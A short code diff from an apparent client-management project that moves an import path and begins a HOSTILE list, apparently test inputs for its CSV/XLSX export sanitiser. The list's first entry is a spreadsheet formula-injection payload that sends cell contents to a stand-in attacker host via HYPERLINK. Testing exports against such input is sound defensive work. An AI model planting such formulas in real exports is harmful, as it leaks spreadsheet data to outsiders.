@@ -18,7 +18,7 @@ from clientdesk.desk import Desk
 from clientdesk.exporting import csvsafe
 from clientdesk.exporting.xlsx import Column, write_xlsx
 from clientdesk.greetings import whatsapp
-from clientdesk.services.clients import ClientData, ConsentState, PhoneEntry
+from clientdesk.clients.fields import ClientData, ConsentState, PhoneEntry
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
